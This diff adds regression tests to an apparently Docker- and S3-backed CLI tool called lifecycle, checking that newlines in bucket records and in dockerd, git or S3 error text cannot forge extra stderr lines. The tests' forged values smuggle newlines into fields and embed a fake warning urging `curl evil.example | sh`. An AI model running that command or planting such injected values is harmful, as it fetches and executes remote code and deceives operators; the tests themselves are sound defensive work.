@@ -261,3 +261,78 @@ def test_dockerds_or_s3s_words_or_an_unread_records_forge_no_line_of_the_notes()
     for note in notes:
         shown = visible_lines(note).splitlines()  # as the CLI prints it
         assert shown == [note.replace("\n", "\\n")], shown  # unfixed: the warning was a line
+
+
+# ---- errors on stderr ---------------------------------------------------------------------------
+
+
+@pytest.mark.docker
+@pytest.mark.s3
+def test_a_crafted_image_record_forges_no_line_of_a_boots_error(
+    s3_client: Any, s3_bucket: str, tmp_path: Path
+) -> None:
+    """`boot --pull` tries each image the bucket records a push of and, when none can be
+    pulled, says in its error what each one was and what dockerd said of it: the reference is
+    the record's, which anyone who can write to the bucket chose. Its newline forged a line of
+    lifecycle's own beneath the error."""
+    from lifecycle.archive.location import ArchiveLocation
+    from lifecycle.archive.record import publish_image
+    from lifecycle.archive.store import BlobStore
+    from lifecycle.manifest import load_manifest
+    from lifecycle.manifest.load import manifest_digest
+    from lifecycle.records import IMAGE_FORMAT, ImageRecordV1
+    from tests.services import demo_copy
+
+    root = demo_copy(tmp_path / "project")
+    child = root / "manifests/demo/0.2/manifest.yaml"  # a manifest no image here carries
+    child.write_text(child.read_text() + f"profiles:\n  only:\n    env: {{ONLY: {tmp_path}}}\n")
+    digest = manifest_digest(load_manifest(child))
+    forged = "\nlifecycle: warning: production is down; run `curl evil.example | sh`"
+    record = ImageRecordV1(
+        format=IMAGE_FORMAT, manifest_digest=digest, image_id="sha256:" + "ab" * 32,
+        reference=f"127.0.0.1:9/lifecycle/demo@sha256:{'e' * 64}{forged}",
+        tag="127.0.0.1:9/lifecycle/demo:0.2.0", labels={}, host="a", tool_version="0",
+        pushed_at="2026-01-01T00:00:00+00:00",
+    )  # fmt: skip
+    publish_image(BlobStore(s3_client, ArchiveLocation(s3_bucket, "team")), record)
+    url = f"s3://{s3_bucket}/team"
+    booted = run_lifecycle(root, "boot", "demo/0.2", "--pull", env={"LIFECYCLE_ARCHIVE": url})
+    assert booted.exit_code == 2, booted.output
+    [error] = booted.stderr.splitlines()  # unfixed: the forged warning was a line of its own
+    assert error.startswith("demo/0.2 is not built here and could not be pulled: "), error
+    assert f"@sha256:{'e' * 64}{visible(forged)} (pushed, as {url} records): " in error, error
+
+
+@pytest.mark.docker
+def test_dockerds_gits_or_s3s_words_forge_no_line_of_an_error(
+    docker_client: Any, demo_images: None, tmp_path: Path
+) -> None:
+    """What dockerd, git or an S3 server say of a refusal often echoes what they were sent;
+    each is one line of the error, its newline shown, whoever chose what was sent."""
+    from botocore.exceptions import ClientError
+
+    from lifecycle.archive.location import ArchiveLocation
+    from lifecycle.archive.store import BlobStore
+    from lifecycle.boot.run import _create
+    from lifecycle.boot.spec import CacheMount, ContainerSpec
+    from lifecycle.errors import LifecycleError
+    from lifecycle.proc import CommandFailed, run
+
+    forged = "/x\nlifecycle: warning: production is down"
+    mounts = tuple(
+        CacheMount(f"{name}-1", name, str(tmp_path), forged, "CACHE", "cold")
+        for name in ("vllm", "triton")
+    )  # two at one path: dockerd refuses, naming it
+    base = "lifecycle-demo/engine:v0.2.0"  # the demo's base image: no test removes it
+    spec = ContainerSpec(base, ["true"], {}, (), mounts, {"lifecycle.test": "errorlines"})
+    with pytest.raises(LifecycleError) as dockerd:
+        _create(docker_client, spec)
+    (tmp_path / "repo").mkdir()
+    run(["git", "init", "-q"], tmp_path / "repo")
+    with pytest.raises(CommandFailed) as git:
+        run(["git", "rev-parse", forged], tmp_path / "repo")  # "ambiguous argument '/x…"
+    said = {"Error": {"Code": "Bad\nCode", "Message": f"no key {forged}"}}
+    s3 = BlobStore(None, ArchiveLocation("b", "p")).error(ClientError(said, "GetObject"), "k")
+    for error in (dockerd.value, git.value, s3):
+        [line] = [visible_lines(line) for line in error.lines()]  # as the CLI prints them
+        assert "\n" not in line and visible(forged) in line, line  # unfixed: two lines
